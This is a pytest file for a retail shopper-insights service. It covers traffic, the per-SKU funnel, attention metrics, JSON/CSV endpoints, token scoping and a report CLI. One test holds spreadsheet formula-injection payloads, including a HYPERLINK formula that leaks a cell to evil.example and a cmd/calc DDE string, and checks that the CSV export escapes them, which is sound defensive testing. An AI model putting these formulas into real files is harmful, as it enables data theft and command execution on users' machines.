"""Shopper insights on both backends: traffic and dwell, the funnel per SKU, attention without sales, per store,
box, zone and over the chain, in hourly and daily buckets, as JSON and CSV, from the boxes' visit events."""

import csv
import io
from datetime import datetime, timedelta, timezone

import pytest
from fastapi import Header, HTTPException
from fastapi.testclient import TestClient

from central import insights
from central.insights import Scope
from central.insights_api import build_router
from edge.events import VisitEvent, VisitProduct, encode, topic
from tests.central.conftest import api

DAY = datetime(2026, 11, 25, tzinfo=timezone.utc)


def visit(store: str, box: str, seq: int, at: str, dwell: float, zone: str, shelf_s: float, *products: VisitProduct):
    start = DAY + timedelta(hours=int(at[:2]), minutes=int(at[3:]))
    end = start + timedelta(seconds=dwell)
    event = VisitEvent(event_id=f"visit-{store}-{box}-{seq:03d}", seq=seq, ts=end, store=store, box=box, shopper=seq,
                       start_ts=start, end_ts=end, dwell_s=dwell, zones=[zone], inspect_shelf_s=shelf_s, actions=5,
                       products=list(products))  # fmt: skip
    return topic(store, box, "visit"), encode(event)


def product(sku: str, outcome: str, reached=1, inspected=0, inspect_s=0.0, picked=0, put_back=0) -> VisitProduct:
    return VisitProduct(sku=sku, reached=reached, inspected=inspected, inspect_s=inspect_s, picked=picked,
                        put_back=put_back, outcome=outcome)  # fmt: skip


# Store s1: box a watches zone "left" (two visits at 9 o'clock), box b zone "right" (one at 10); store s2: one visit.
VISITS = [
    visit("s1", "a", 1, "09:10", 10, "left", 4, product("cola", "kept", inspected=1, inspect_s=3, picked=1),
          product("chips", "looked")),
    visit("s1", "a", 2, "09:40", 20, "left", 30,
          product("cola", "put_back", inspected=1, inspect_s=5, picked=1, put_back=1)),
    visit("s1", "b", 1, "10:05", 30, "right", 100, product("chips", "looked")),
    visit("s2", "a", 1, "09:15", 40, "left", 2, product("cola", "kept", inspected=1, inspect_s=7, picked=1)),
]  # fmt: skip


@pytest.fixture
def stored(central):
    assert central.events(VISITS) == ["stored"] * 4
    assert central.events(VISITS[:2]) == ["duplicate"] * 2  # a replay adds nothing
    return central


def scope(stores=("s1",), bucket="total", by=("store",)) -> Scope:
    return Scope(tuple(stores), DAY, DAY + timedelta(days=1), bucket, tuple(by))


def test_traffic_counts_the_shoppers_who_stopped_and_their_dwell_per_store_box_zone_and_hour(stored):
    with stored.engine.connect() as conn:
        [s1] = insights.traffic(conn, scope())
        assert (s1.store, s1.shoppers, s1.dwell_median_s, s1.dwell_p90_s) == ("s1", 3, 20, 30)
        hourly = insights.traffic(conn, scope(bucket="hour"))
        assert [(r.bucket.hour, r.shoppers, r.dwell_median_s, r.dwell_p90_s) for r in hourly] == [
            (9, 2, 10, 20), (10, 1, 30, 30)]  # fmt: skip
        assert hourly[0].bucket == DAY.replace(hour=9)  # an aware UTC hour on both backends
        by_box = insights.traffic(conn, scope(by=("store", "box")))
        assert [(r.box, r.shoppers) for r in by_box] == [("a", 2), ("b", 1)]
        by_zone = insights.traffic(conn, scope(by=("zone",)))
        assert [(r.zone, r.shoppers, r.store) for r in by_zone] == [("left", 2, None), ("right", 1, None)]
        chain = insights.traffic(conn, scope(stores=(), by=()))
        assert [(r.shoppers, r.dwell_median_s, r.dwell_p90_s) for r in chain] == [(4, 20, 40)]
        daily = insights.traffic(conn, scope(stores=(), bucket="day"))
        assert [(r.bucket, r.store, r.shoppers) for r in daily] == [(DAY, "s1", 3), (DAY, "s2", 1)]


def test_the_funnel_per_sku_goes_from_reached_to_kept_with_rates_and_inspection_times(stored):
    with stored.engine.connect() as conn:
        chips, cola = insights.funnel(conn, scope(stores=(), by=()))  # the whole chain
        assert (cola.reached, cola.inspected, cola.picked, cola.kept, cola.put_back) == (3, 3, 3, 2, 1)
        assert (cola.picked_units, cola.put_back_units) == (3, 1)
        assert (cola.inspect_rate, cola.pick_rate, cola.keep_rate, cola.put_back_rate) == (1, 1, 0.6667, 0.3333)
        assert (cola.inspect_median_kept_s, cola.inspect_median_put_back_s) == (3, 5)
        assert (chips.sku, chips.reached, chips.inspected, chips.picked, chips.kept) == ("chips", 2, 0, 0, 0)
        assert (chips.pick_rate, chips.keep_rate, chips.inspect_median_kept_s) == (0, None, None)
        per_store = insights.funnel(conn, scope(stores=("s1", "s2"), by=("store",)))
        assert [(r.store, r.sku, r.kept) for r in per_store] == [("s1", "chips", 0), ("s1", "cola", 1),
                                                                 ("s2", "cola", 1)]  # fmt: skip
        per_box = insights.funnel(conn, scope(by=("box", "zone"), bucket="hour"))
        assert [(r.bucket.hour, r.box, r.zone, r.sku, r.reached) for r in per_box] == [
            (9, "a", "left", "chips", 1), (9, "a", "left", "cola", 2), (10, "b", "right", "chips", 1)]  # fmt: skip


def test_attention_without_sales_puts_the_zone_looked_at_most_per_pick_first(stored):
    with stored.engine.connect() as conn:
        right, left = insights.attention(conn, scope())
        assert (right.zone, right.inspect_shelf_s, right.picked_units, right.without_sales) == ("right", 100, 0, True)
        assert right.attention_s_per_pick is None
        assert (left.zone, left.shoppers, left.inspect_shelf_s, left.picked_units) == ("left", 2, 34, 2)
        assert (left.attention_s_per_pick, left.without_sales) == (17, False)
        assert [r.without_sales for r in insights.attention(conn, scope(), threshold_s=10)] == [True, True]


def test_the_api_serves_them_as_json_and_csv_and_in_the_openapi_document(stored):
    client = api(stored, None)  # a chain-wide token
    paths = client.get("/openapi.json").json()["paths"]
    assert {"/insights/traffic", "/insights/funnel", "/insights/attention"} <= set(paths)
    day = {"start": DAY.isoformat(), "end": (DAY + timedelta(days=1)).isoformat()}
    rows = client.get("/insights/traffic", params={"store": "s1", "bucket": "hour", **day}).json()
    assert [(r["bucket"], r["shoppers"]) for r in rows] == [("2026-11-25T09:00:00Z", 2), ("2026-11-25T10:00:00Z", 1)]
    both = client.get("/insights/traffic", params={"store": ["s1", "s2"], "by": ["store", "box"], **day}).json()
    assert [(r["store"], r["box"], r["shoppers"]) for r in both] == [("s1", "a", 2), ("s1", "b", 1), ("s2", "a", 1)]
    answer = client.get("/insights/funnel", params={"format": "csv", **day})
    assert answer.status_code == 200 and answer.headers["content-type"].startswith("text/csv")
    table = list(csv.DictReader(io.StringIO(answer.text)))
    assert [(r["sku"], r["kept"], r["keep_rate"], r["inspect_median_kept_s"]) for r in table] == [
        ("chips", "0", "", ""), ("cola", "2", "0.6667", "3.0")]  # fmt: skip
    attention = client.get("/insights/attention", params={"store": "s1", **day}).json()
    assert [a["zone"] for a in attention] == ["right", "left"]
    wrong = client.get("/insights/traffic", params={"start": day["end"], "end": day["start"]})
    assert wrong.status_code == 422 and "is not before end" in wrong.json()["detail"]
    assert client.get("/insights/traffic", params={"bucket": "week"}).status_code == 422


def test_an_authentication_dependency_guards_every_insight_route(stored):
    from fastapi import FastAPI

    def token(authorization: str = Header(default="")) -> None:
        if authorization != "Bearer secret":
            raise HTTPException(status_code=401, detail="a valid token is needed")

    app = FastAPI()
    app.include_router(build_router(stored, auth_dependency=token))
    client = TestClient(app)
    for path in ("/insights/traffic", "/insights/funnel", "/insights/attention"):
        assert client.get(path).status_code == 401
        assert client.get(path, headers={"Authorization": "Bearer secret"}).status_code == 200


def test_a_stores_token_sees_only_its_store(stored):
    mine = api(stored, "s2")
    for path in ("/insights/traffic", "/insights/funnel", "/insights/attention"):
        assert mine.get(path, params={"store": "s1"}).status_code == 403
        assert mine.get(path, params={"store": ["s2", "s1"]}).status_code == 403
    rows = mine.get("/insights/traffic", params={"bucket": "total"}).json()  # no store: its own, not the chain's
    assert {r["store"] for r in rows} == {"s2"}
    assert TestClient(mine.app).get("/insights/traffic").status_code == 401  # and none without a token


def test_rebuild_rolls_every_stored_visit_up_again(stored):
    with stored.engine.begin() as conn:
        for table in insights.TABLES:
            conn.execute(table.delete())
        assert insights.rebuild(conn) == 4
    with stored.engine.connect() as conn:
        assert [r.shoppers for r in insights.traffic(conn, scope(stores=(), by=()))] == [4]


def test_central_report_prints_the_funnel_as_a_table(stored, db_url, shelfwatch):
    result = shelfwatch("central", "report", "--db", db_url, "--store", "s1", "--from", "2026-11-25", "--to",
                        "2026-11-26")  # fmt: skip
    assert result.returncode == 0, result.stderr
    lines = result.stdout.splitlines()
    assert lines[0] == "s1, 2026-11-25 00:00 to 2026-11-26 00:00 UTC"
    assert lines[1] == "s1: 3 shoppers stopped; dwell median 20.0 s, p90 30.0 s"
    assert lines[2].split()[:6] == ["store", "sku", "reached", "inspected", "picked", "kept"]
    assert lines[4].split() == ["s1", "chips", "2", "0", "0", "0", "0", "0%", "0%", "-", "-", "-", "-"]
    assert lines[5].split() == ["s1", "cola", "2", "2", "2", "1", "1", "100%", "100%", "50%", "50%", "3.0", "5.0"]
    by_box = shelfwatch("central", "report", "--db", db_url, "--store", "s1", "--by", "box", "--from", "2026-11-25",
                        "--to", "2026-11-26")  # fmt: skip
    assert [line.split()[:3] for line in by_box.stdout.splitlines()[5:]] == [["s1", "a", "chips"], ["s1", "a", "cola"],
                                                                             ["s1", "b", "chips"]]  # fmt: skip
    wrong = shelfwatch("central", "report", "--db", db_url, "--from", "yesterday")
    assert wrong.returncode == 2 and wrong.stderr.strip().endswith("--from 'yesterday': not an ISO 8601 date or time "
                                                                   "(2026-11-25 or 2026-11-25T09:00)")  # fmt: skip


FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"cola")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"]


@pytest.mark.parametrize(("endpoint", "column", "by"), [("traffic", "zone", ["zone"]), ("funnel", "sku", []),
                                                        ("attention", "zone", ["zone"])])  # fmt: skip
def test_a_csv_export_keeps_a_formula_from_a_box_as_text(central, endpoint, column, by):
    """Issue 21.5: a box's SKU or zone that a spreadsheet would run (OWASP: a cell beginning with = + - @) comes out
    with a ' before it; the JSON keeps it as sent."""
    stored = [visit("s1", "a", n, f"09:{n:02d}", 10, formula, 4, product(formula, "kept", inspected=1, picked=1))
              for n, formula in enumerate(FORMULAS, start=1)]  # fmt: skip
    assert central.events(stored) == ["stored"] * len(FORMULAS)
    client = api(central)
    day = {"start": DAY.isoformat(), "end": (DAY + timedelta(days=1)).isoformat(), "by": by}
    table = list(csv.DictReader(io.StringIO(client.get(f"/insights/{endpoint}", params={"format": "csv", **day}).text)))
    assert sorted(r[column] for r in table) == sorted(
        ['\'=HYPERLINK("http://evil.example/?leak="&A1,"cola")', "'+1+cmd|' /C calc'!A0", "'-2+3", "'@SUM(1+1)"]
    )
    rows = client.get(f"/insights/{endpoint}", params=day).json()
    assert sorted(r[column] for r in rows) == sorted(FORMULAS)


def test_a_visit_from_footage_unlike_the_training_counts_for_no_insight(stored):
    """Issue 25: a box with a familiarity guard sends visits only from familiar shelf actions; a visit marked
    unfamiliar all the same is stored (it is an event) but counted nowhere, and `familiar: true` counts as ever."""
    start = DAY + timedelta(hours=9, minutes=50)
    for seq, familiar in ((3, False), (4, True)):
        event = VisitEvent(event_id=f"visit-s1-a-{seq:03d}", seq=seq, ts=start, store="s1", box="a", shopper=seq,
                           start_ts=start, end_ts=start, dwell_s=0, zones=["left"], actions=1, familiar=familiar,
                           products=[product("tea", "kept", picked=1)])  # fmt: skip
        assert stored.events([(topic("s1", "a", "visit"), encode(event))]) == ["stored"]
    with stored.engine.connect() as conn:
        rows = insights.traffic(conn, scope(by=("box",)))
        funnel = {r.sku: r for r in insights.funnel(conn, scope())}
    assert {r.box: r.shoppers for r in rows} == {"a": 3, "b": 1}  # two before, and the familiar one
    assert funnel["tea"].picked == 1


def test_a_visit_split_over_several_events_counts_once_with_the_products_of_every_part(stored):
    """A box sends a visit whose products do not fit one 1 KB payload as parts (edge/report.py): the visit is one
    shopper for traffic and every part's products are in the funnel."""
    start = DAY + timedelta(hours=11)
    for part, sku in ((1, "tea"), (2, "soap")):
        event = VisitEvent(event_id=f"visit-s1-a-part{part}", seq=10 + part, ts=start, store="s1", box="a",
                           shopper=9, start_ts=start, end_ts=start + timedelta(seconds=50), dwell_s=50,
                           zones=["left"], actions=3, part=part, parts=2,
                           products=[product(sku, "kept", picked=1)])  # fmt: skip
        assert stored.events([(topic("s1", "a", "visit"), encode(event))]) == ["stored"]
    with stored.engine.connect() as conn:
        rows = {r.box: r for r in insights.traffic(conn, scope(by=("box",)))}
        funnel = {r.sku: r for r in insights.funnel(conn, scope())}
    assert rows["a"].shoppers == 3  # the two visits before and this one, once
    assert (funnel["tea"].picked_units, funnel["soap"].picked_units) == (1, 1)
